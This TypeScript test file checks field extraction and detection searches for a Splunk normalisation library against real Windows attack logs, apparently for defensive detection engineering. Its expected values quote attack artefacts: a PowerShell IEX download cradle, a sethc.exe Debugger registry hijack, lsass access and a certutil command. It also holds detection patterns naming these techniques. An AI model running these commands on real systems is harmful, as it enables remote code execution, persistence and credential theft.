// Field extraction and CIM data-set membership on real captures: the EVTX-to-MITRE-Attack
// samples rendered in test/evtx (README there) and the real attack_data logs of test/logs.
// Every expected value below was read off the event's own text.
import { join } from 'node:path';
import { createAddonEngine, defaultDataModels, extractFields, SPLUNK_ADDONS, type SplunkEvent } from '@dac/normalise';
import { formatFor, readFixture, type FixtureFormat } from '@dac/replay';
import { parseSearch, evaluateSearch, type SearchExpr } from '@dac/spl';
import { beforeAll, describe, expect, it } from 'vitest';
import { escuSearchMacros } from '../support/escu-macros.js';

const repo = join(import.meta.dirname, '..', '..');
const dm = defaultDataModels();

async function events(file: string, sourcetype = 'xmlwineventlog'): Promise<SplunkEvent[]> {
  const fmt = formatFor(sourcetype) as FixtureFormat;
  const out: SplunkEvent[] = [];
  const r = await readFixture(join(repo, file), fmt, (e) =>
    out.push(
      extractFields(e, {
        sourcetype: fmt.sourcetype === 'WinEventLog' ? 'WinEventLog' : sourcetype,
        source: fmt.sourceOf(e.fields),
      }),
    ),
  );
  expect(r.malformed).toBe(0);
  return out;
}
const byCode = (evs: SplunkEvent[], code: string) => evs.filter((e) => e.EventCode === code);

const MACROS = escuSearchMacros();
/** The base search (first segment) of an ESCU-style search, macros expanded. */
function base(search: string): SearchExpr {
  const p = parseSearch(search, MACROS);
  const c = p.pipeline.commands[0];
  if (c?.kind !== 'search' || !c.expr) throw new Error('no base search');
  return c.expr;
}

describe('Sysmon (Splunk_TA_microsoft_sysmon on Splunk_TA_windows [xmlwineventlog])', () => {
  let sticky: SplunkEvent[];
  let cme: SplunkEvent[];
  let psexec: SplunkEvent[];
  beforeAll(async () => {
    sticky = await events('test/evtx/sysmon_1_18_sticky_key_cmd.log');
    cme = await events('test/evtx/sysmon_3_7_10_cme_mimikatz.log');
    psexec = await events('test/evtx/sysmon_1_11_13_17_18_22_psexec.log');
  });

  it('EID 1: System fields, every Data Name, the add-on CIM names; in Endpoint.Processes with the CIM calculations', () => {
    const [ev] = byCode(sticky, '1');
    expect(ev).toMatchObject({
      EventCode: '1',
      EventID: '1',
      EventRecordID: '11788',
      RecordNumber: '11788',
      Channel: 'Microsoft-Windows-Sysmon/Operational',
      Computer: 'win10-02.offsec.lan',
      Keywords: '0x8000000000000000',
      Level: '4',
      Task: '1',
      Opcode: '0',
      ProcessID: '3064',
      ThreadID: '3680',
      UserID: 'S-1-5-18',
      Image: 'C:\\Windows\\System32\\cmd.exe',
      RuleName: 'technique_id=T1059,technique_name=Command-Line Interface',
      host: 'win10-02.offsec.lan',
      source: 'XmlWinEventLog:Microsoft-Windows-Sysmon/Operational',
      sourcetype: 'xmlwineventlog',
      index: 'main',
      process_name: 'cmd.exe',
      process_path: 'C:\\Windows\\System32\\cmd.exe',
      process: 'C:\\windows\\system32\\cmd.exe sethc.exe 211',
      process_id: '3300',
      parent_process_name: 'winlogon.exe',
      parent_process_path: 'C:\\Windows\\System32\\winlogon.exe',
      parent_process_id: '3984',
      parent_process: 'winlogon.exe',
      user: 'OFFSEC\\admmig',
      dest: 'win10-02.offsec.lan',
      original_file_name: 'Cmd.Exe',
      vendor_product: 'Microsoft Sysmon',
      signature: 'Process Create',
      signature_id: '1',
      action: 'allowed',
      MD5: '8A2122E8162DBEF04694B9C3E0B6CDEE',
      eventtype: ['windows_event_signature', 'ms-sysmon-process'],
    });
    // SystemTime 2021-05-03T12:06:57.954898800Z, kept to the microsecond.
    expect(ev._time).toBe(Date.UTC(2021, 4, 3, 12, 6, 57) / 1000 + 0.954898);
    expect(ev.tag).toEqual(expect.arrayContaining(['process', 'report']));
    const [row] = dm.rows(ev, 'Endpoint.Processes');
    // Processes base search: `eval process_integrity_level=lower(process_integrity_level)`.
    expect(row).toMatchObject({
      process_integrity_level: 'medium',
      process_name: 'cmd.exe',
      parent_process_name: 'winlogon.exe',
    });
    expect(row.Image).toBeUndefined(); // rows hold data-model fields only
    expect(dm.contains(ev, 'Endpoint.Registry')).toBe(false);
  });

  it('EID 3 is in Network_Traffic.All_Traffic (tag=network tag=communicate) with the CIM fields', () => {
    const [ev] = byCode(cme, '3');
    expect(ev).toMatchObject({
      src_ip: '10.23.42.38',
      src_port: '62095',
      dest_ip: '10.23.123.11',
      dest_port: '443',
      dest: '10.23.123.11', // DestinationHostname is "-"
      transport: 'tcp',
      direction: 'outbound',
      app: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
      user: 'OFFSEC\\admmig',
    });
    const [row] = dm.rows(ev, 'Network_Traffic');
    expect(row).toMatchObject({
      dest: '10.23.123.11',
      dest_port: '443',
      src: '10.23.42.38',
      transport: 'tcp',
      vendor_product: 'Microsoft Sysmon',
    });
    expect(dm.nodes(ev, 'Network_Traffic')).toEqual([
      'All_Traffic',
      'All_Traffic.Traffic_By_Action',
      'All_Traffic.Traffic_By_Action.Allowed_Traffic',
    ]);
  });

  it('EID 10: the source process is the parent, the target the process (ESCU `parent_process_name … TargetImage`)', () => {
    const [ev] = byCode(cme, '10');
    expect(ev).toMatchObject({
      parent_process_name: 'powershell.exe',
      parent_process_id: '2668',
      process_name: 'lsass.exe',
      process_id: '480',
      granted_access: '0x0000143a',
      GrantedAccess: '0x0000143a',
    });
    // `sysmon` EventCode=10 TargetImage=*lsass.exe (windows_non_system_account_targeting_lsass)
    expect(evaluateSearch(base('`sysmon` EventCode=10 TargetImage=*lsass.exe'), ev)).toBe(true);
  });

  it('EID 7: loaded_file from ImageLoaded, process_name the loading process', () => {
    const [ev] = byCode(cme, '7');
    expect(ev.process_name).toBe('powershell.exe');
    expect(ev.loaded_file).toBe('System.Management.Automation.ni.dll');
    expect(String(ev.loaded_file_path)).toMatch(/^C:\\Windows\\assembly\\NativeImages_v4\.0\.30319_64\\/);
  });

  it('EID 11 is in Endpoint.Filesystem (tag=endpoint tag=filesystem), not in Change (object_category=file)', async () => {
    const evs = byCode(await events('test/evtx/sysmon_11_sethc_copy.log'), '11');
    expect(evs.map((e) => [e.file_name, e.file_path, e.process_name])).toEqual([
      ['seth2c.exe', 'C:\\Windows\\System32\\seth2c.exe', 'cmd.exe'],
      ['sethc.exe', 'C:\\Windows\\System32\\sethc.exe', 'powershell.exe'],
    ]);
    const rows = evs.flatMap((e) => dm.rows(e, 'Endpoint.Filesystem'));
    expect(rows.map((r) => [r.file_name, r.dest, r.action])).toEqual([
      ['seth2c.exe', 'fs02.offsec.lan', 'modified'],
      ['sethc.exe', 'fs02.offsec.lan', 'modified'],
    ]);
    expect(evs.some((e) => dm.contains(e, 'Change'))).toBe(false);
  });

  it('EID 12 / 13 are in Endpoint.Registry: path, value name, value data (DWORD (0x…) → 0x…)', async () => {
    const evs = await events('test/evtx/sysmon_12_13_sticky_key_registry.log');
    const [r12] = dm.rows(byCode(evs, '12')[0], 'Endpoint.Registry');
    expect(r12).toMatchObject({
      action: 'created',
      registry_path: 'HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Image File Execution Options\\sethc.exe',
      registry_key_name: 'sethc.exe',
    });
    const [r13] = dm.rows(byCode(evs, '13')[0], 'Endpoint.Registry');
    expect(r13).toMatchObject({
      action: 'modified',
      registry_value_name: 'Debugger',
      registry_value_data: 'C:\\windows\\system32\\cmd.exe',
      process_id: '4932',
    });
    // CIM 4.20 Registry has process_guid/process_id but no process_name (CIM 8.5 adds it).
    expect(r13.process_name).toBeUndefined();
    expect(byCode(evs, '13')[0].process_name).toBe('reg.exe');
    const dword = byCode(psexec, '13').find((e) => e.registry_value_name === 'EulaAccepted')!;
    expect([dword.Details, dword.registry_value_data, dword.registry_value_type]).toEqual([
      'DWORD (0x00000001)',
      '0x00000001',
      'DWORD',
    ]);
  });

  it('EID 22 is in Network_Resolution.DNS (tag=network tag=resolution tag=dns)', () => {
    const [ev] = byCode(psexec, '22');
    const [row] = dm.rows(ev, 'Network_Resolution.DNS');
    expect(row).toMatchObject({ query: 'fs03vuln', src: 'fs03vuln.offsec.lan', vendor_product: 'Microsoft Sysmon' });
  });
});

describe('Windows Security (Splunk_TA_windows [source::XmlWinEventLog:Security])', () => {
  it('4688: user without domain, hex process ids, command line, in Endpoint.Processes', async () => {
    const evs = byCode(await events('test/evtx/security_4688_group_discovery.log'), '4688');
    expect(evs[0]).toMatchObject({
      user: 'admmig',
      src_user: 'admmig',
      process_name: 'net.exe',
      process_path: 'C:\\Windows\\System32\\net.exe',
      process_id: '0x0000000000000658',
      action: 'allowed',
      dest: 'FS03.offsec.lan',
      signature: 'A new process has been created',
      vendor_product: 'Microsoft Windows',
    });
    const rows = evs.flatMap((e) => dm.rows(e, 'Endpoint.Processes'));
    expect(rows.map((r) => r.process_name)).toEqual(['net.exe', 'net1.exe']);
    expect(rows[0].original_file_name).toBe('unknown'); // 4688 has none: the CIM fills "unknown"
    expect(evaluateSearch(base('`wineventlog_security` EventCode=4688'), evs[0])).toBe(true);
  });

  it('4624 / 4625 are in Authentication with action success / failure; 4625 in Failed_Authentication', async () => {
    const [ok] = byCode(await events('test/evtx/security_4624_4688_5145_pass_the_hash.log'), '4624');
    expect(ok).toMatchObject({ action: 'success', user: 'admmig', app: 'win:local', Logon_Type: '9' });
    expect(ok.src_ip).toBeUndefined(); // IpAddress ::1 is excluded by EXTRACT-1IpAddress…
    expect(dm.rows(ok, 'Authentication')[0]).toMatchObject({
      action: 'success',
      user: 'admmig',
      dest: 'FS03.offsec.lan',
    });
    const fails = byCode(await events('test/evtx/security_4625_account_restriction.log'), '4625');
    expect(fails[0]).toMatchObject({
      action: 'failure',
      src_ip: '10.23.23.9',
      ta_windows_action: 'failure',
      Error_Code: '0xc000006e',
    });
    // WorkstationName "-" is the first Source_Workstation (first value wins), and the src transform
    // skips "-": no src — the ESCU data source of 4625 (captured with the add-on) lists none either.
    expect(fails[0].src).toBeUndefined();
    expect(dm.nodes(fails[0], 'Authentication')).toContain('Authentication.Failed_Authentication');
    expect(dm.nodes(ok, 'Authentication')).toContain('Authentication.Successful_Authentication');
  });

  it('4769 is in Authentication (eventtype windows_service_ticket_granted)', async () => {
    const evs = byCode(await events('test/evtx/security_4769_kerberoast.log'), '4769');
    expect(evs.length).toBe(3);
    expect(evs.every((e) => dm.contains(e, 'Authentication'))).toBe(true);
    expect(evs[1]).toMatchObject({
      user: 'admmig@OFFSEC.LAN',
      service_name: expect.any(String),
      eventtype: expect.arrayContaining(['windows_service_ticket_granted']),
    });
  });

  it('4720 / 4726 are in Change.All_Changes.Account_Management (Accounts_Created / Accounts_Deleted)', async () => {
    const evs = await events('test/evtx/security_4720_4726_created_deleted_user.log');
    const [created] = byCode(evs, '4720');
    const [deleted] = byCode(evs, '4726');
    expect(created).toMatchObject({
      action: 'created',
      user: 'admin-kriss',
      src_user: 'lambda-user',
      object_category: 'user',
    });
    // 4720 also carries the wineventlog_windows tags (endpoint …): Change.Endpoint_Changes too.
    expect(dm.nodes(created, 'Change')).toEqual([
      'All_Changes',
      'All_Changes.Endpoint_Changes',
      'All_Changes.Endpoint_Changes.Other_Endpoint_Changes',
      'All_Changes.Account_Management',
      'All_Changes.Account_Management.Accounts_Created',
    ]);
    expect(dm.nodes(deleted, 'Change')).toEqual([
      'All_Changes',
      'All_Changes.Account_Management',
      'All_Changes.Account_Management.Accounts_Deleted',
    ]);
    expect(dm.rows(created, 'Change.Account_Management')[0]).toMatchObject({
      action: 'created',
      user: 'admin-kriss',
      src_user: 'lambda-user',
    });
  });

  it('4732 is in Account_Management (action success, the group as user, as the add-on maps it)', async () => {
    const evs = byCode(await events('test/evtx/security_4732_local_admin_group.log'), '4732');
    expect(evs.map((e) => e.user)).toEqual(['Users', 'Administrators', 'Backup Operators']);
    expect(evs.every((e) => dm.contains(e, 'Change.Account_Management'))).toBe(true);
  });

  it('5136 and 5145: the eventtype wineventlog_windows tags every Security event but account changes endpoint+filesystem', async () => {
    const [ds] = byCode(await events('test/evtx/security_5136_4742_rbcd_delegation.log'), '5136');
    expect(ds).toMatchObject({ src_user: 'Administrator', signature: 'A directory service object was modified' });
    expect(dm.nodes(ds, 'Endpoint')).toEqual(['Filesystem']);
    expect(dm.contains(ds, 'Change')).toBe(false);
    const shares = byCode(await events('test/evtx/security_5145_remote_service_smb.log'), '5145');
    expect(shares.map((e) => [e.file_name, e.src, e.src_user])).toEqual([
      ['\\\\*\\ADMIN$', '10.23.123.11', 'admmig'],
      ['\\\\*\\IPC$', '10.23.123.11', 'admmig'],
    ]);
  });

  it('1102 (UserData): SubjectUserName via LogFileCleared_Xml; in Change (audit cleared)', async () => {
    const [ev] = byCode(await events('test/evtx/security_4688_group_discovery.log'), '1102');
    expect(ev).toMatchObject({
      src_user: 'admmig',
      action: 'cleared',
      object_category: 'audit',
      SubjectUserName: 'admmig',
    });
    expect(dm.contains(ev, 'Change')).toBe(true);
  });
});

describe('PowerShell 4104 (XmlWinEventLog:Microsoft-Windows-PowerShell/Operational)', () => {
  it('ScriptBlockText and friends as fields; the ESCU `powershell` base search matches', async () => {
    const evs = byCode(await events('test/evtx/powershell_4103_4104_payload_download.log'), '4104');
    expect(evs[0]).toMatchObject({
      ScriptBlockText:
        '"IEX(New-Object Net.WebClient).downloadString(\'https://miro.medium.com/max/1400/1*FnPDYeZVrGTbuE7Lj7JhgQ.png\')"',
      ScriptBlockId: '965150b4-b107-4cce-9d30-1d3c55a8a085',
      MessageNumber: '1',
      Computer: 'fs03vuln.offsec.lan',
      user_id: 'S-1-5-21-4230534742-2542757381-3142984815-1111',
      ActivityID: '{3F0C7A49-E4FD-0001-0094-0940FDE4D701}',
      vendor_product: 'Microsoft Windows',
    });
    const q = base('`powershell` EventCode=4104 ScriptBlockText IN ("*downloadstring*", "*IEX*")');
    expect(evs.map((e) => evaluateSearch(q, e))).toEqual([true, false]);
  });
});

describe('the real certutil attack_data file (test/logs, mixed Sysmon XML, 4688 XML, classic 4104)', () => {
  it('Sysmon 1 and Security 4688 of the same processes: 20 + 20 Endpoint.Processes rows, PIDs agree (0x1b28 = 6952)', async () => {
    const evs = await events('test/logs/certutil_sysmon_4688_mixed.raw');
    const sysmon = byCode(evs, '1');
    const sec = byCode(evs, '4688');
    expect([sysmon.length, sec.length]).toEqual([20, 20]);
    expect(evs.every((e) => dm.contains(e, 'Endpoint.Processes'))).toBe(true);
    const s = sysmon.find((e) => e.process_id === '6952')!;
    const w = sec.find((e) => e.process_id === '0x1b28')!;
    expect([s.process_name, w.process_name, s.parent_process_id, w.parent_process_id]).toEqual([
      'certutil.exe',
      'certutil.exe',
      '6860',
      '0x1acc',
    ]);
    expect(w.user).toBe('administrator'); // TargetUserName is "-": the add-on falls back to SubjectUserName
    expect(s.user).toBe('ATTACKRANGE\\Administrator');
  });

  it('the classic PowerShell 4104 events, read as WinEventLog: 19 events with Key=Value and message fields', async () => {
    const evs = await events('test/logs/certutil_sysmon_4688_mixed.raw', 'WinEventLog');
    expect(evs.length).toBe(19);
    expect(evs[0]).toMatchObject({
      LogName: 'Microsoft-Windows-PowerShell/Operational',
      SourceName: 'Microsoft-Windows-PowerShell',
      EventCode: '4104',
      ComputerName: 'win-dc-791937.attackrange.local',
      TaskCategory: 'Execute a Remote Command',
      RecordNumber: '168274',
      ScriptBlock_ID: '5a4fa6b8-2478-401a-be72-d1d40c3c754c',
      source: 'WinEventLog:Microsoft-Windows-PowerShell/Operational',
      host: 'win-dc-791937.attackrange.local',
      dvc: 'win-dc-791937.attackrange.local',
      event_id: '168274',
      vendor_product: 'Microsoft Windows',
    });
    expect(String(evs[0].Message)).toContain('certutil.exe -p password1234 .\\powershellcert.pfx');
    expect(evs[0]._time).toBe(Date.UTC(2021, 0, 14, 23, 41, 39) / 1000);
    // The classic rendering has no ScriptBlockText field (Splunk_TA_windows extracts none from the message).
    expect(evs[0].ScriptBlockText).toBeUndefined();
    expect(evaluateSearch(base('`powershell` EventCode=4104'), evs[0])).toBe(true);
  });
});

describe('NXLog JSON (test/logs/atomic_T1027_nxlog.jsonl.gz; dac knowledge, no add-on exists)', () => {
  it('the 324 Sysmon EID 1 events are in Endpoint.Processes; the PID comes from Message', async () => {
    const fmt = formatFor('nxlog:json') as FixtureFormat;
    const x = createAddonEngine(SPLUNK_ADDONS).extractor('nxlog:json', 'nxlog');
    let n = 0;
    let first: SplunkEvent | undefined;
    await readFixture(join(repo, 'test/logs/atomic_T1027_nxlog.jsonl.gz'), fmt, (e) => {
      const ev = x.extract(e, { sourcetype: 'nxlog:json', source: 'nxlog' });
      if (dm.contains(ev, 'Endpoint.Processes')) {
        n++;
        first ??= ev;
      }
    });
    expect(n).toBe(324);
    expect(first).toMatchObject({
      process_id: '2968',
      process_path: 'C:\\Windows\\servicing\\TrustedInstaller.exe',
      process_name: 'TrustedInstaller.exe',
      ProcessID: '2740',
    });
  });
});

describe('projections (extract only what a search reads) agree with the full extraction', () => {
  it('on every real event of test/evtx, for generated sets of wanted fields', async () => {
    const { readdirSync } = await import('node:fs');
    const fc = (await import('fast-check')).default;
    const fmt = formatFor('xmlwineventlog') as FixtureFormat;
    const raws: { e: Parameters<typeof extractFields>[0]; source: string }[] = [];
    for (const f of readdirSync(join(repo, 'test/evtx')).filter((x) => x.endsWith('.log')))
      await readFixture(join(repo, 'test/evtx', f), fmt, (e) => raws.push({ e, source: fmt.sourceOf(e.fields) }));
    const engine = createAddonEngine(SPLUNK_ADDONS);
    const copy = (e: Parameters<typeof extractFields>[0]) => ({
      ...e,
      fields: Object.assign(Object.create(null), e.fields),
    });
    const full = raws.map((r) => engine.extract(copy(r.e), { sourcetype: 'xmlwineventlog', source: r.source }));
    const names = [...new Set(full.flatMap((e) => Object.keys(e)))].sort();
    fc.assert(
      fc.property(
        fc.integer({ min: 0, max: raws.length - 1 }),
        fc.subarray(names, { minLength: 1, maxLength: 8 }),
        (i, wanted) => {
          const w = new Set(wanted);
          const part = engine.extract(copy(raws[i].e), { sourcetype: 'xmlwineventlog', source: raws[i].source }, w);
          for (const f of wanted) expect({ f, v: part[f] }).toEqual({ f, v: full[i][f] });
        },
      ),
      { numRuns: 300 },
    );
  });
});
